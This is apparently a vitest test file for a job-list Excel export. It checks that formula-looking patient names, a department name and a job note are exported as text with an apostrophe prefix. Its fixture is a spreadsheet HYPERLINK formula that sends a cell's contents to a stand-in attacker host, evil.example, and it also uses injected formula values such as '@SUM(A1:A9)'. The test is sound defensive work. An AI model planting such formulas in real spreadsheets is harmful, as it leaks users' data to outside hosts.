import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { departments } from '../../db/schema/index.js';
import { databaseTargets } from '../../testing/databases.js';
import { buildJob, buildPatient, buildStructure, buildUser } from '../../testing/factories.js';
import { TestBrowser } from '../../testing/processes/browser.js';
import { createTestApp, type TestApp } from '../../testing/testContext.js';

const NOTE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open chart")';

/** Issue 23: formula-looking text (a job note, uploaded patient data) is exported as text. */
describe.each(databaseTargets())('job list export of formula-looking text on $name', (target) => {
  let t: TestApp;
  let csId: number;
  let jobId: number;
  let manager: TestBrowser;

  beforeAll(async () => {
    t = await createTestApp(target);
    const north = await buildStructure(t.ctx, { name: 'North' });
    csId = north.structure.id;
    const cf = north.facilities[0]!;
    // As a schedule upload would have brought them in: a patient and a department named like formulas.
    const patient = await buildPatient(t.ctx, csId, { first: '+1 555 0100', last: '@SUM(A1:A9)' });
    const [dep] = await t.ctx.database.db
      .insert(departments)
      .values({ clientFacilityId: cf.id, name: '-2+3' })
      .returning();
    jobId = (
      await buildJob(t.ctx, cf, {
        stageId: 9,
        onManualList: true,
        patientId: patient.id,
        departmentId: dep!.id,
        jobNote: NOTE,
      })
    ).id;
    const m = await buildUser(t.ctx, { username: 'exporter', accounts: [{ companyId: csId }] });
    manager = new TestBrowser(t.app);
    await manager.signInAs('exporter', m.password, m.accounts[0]!.id);
  });
  afterAll(async () => t?.close());

  it('prefixes the note and the uploaded names with an apostrophe; numbers stay numbers', async () => {
    const res = await manager.get(
      `/api/file/JobList/${csId}/all?columns=filterJobId,patientName,department,jobNoteBool`,
    );
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = book.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe(jobId);
    expect(row.getCell(2).value).toBe("'@SUM(A1:A9), +1 555 0100");
    expect(row.getCell(3).value).toBe("'-2+3");
    expect(row.getCell(4).value).toBe(`'${NOTE}`);
    expect(row.getCell(4).formula).toBeUndefined();
  });
});
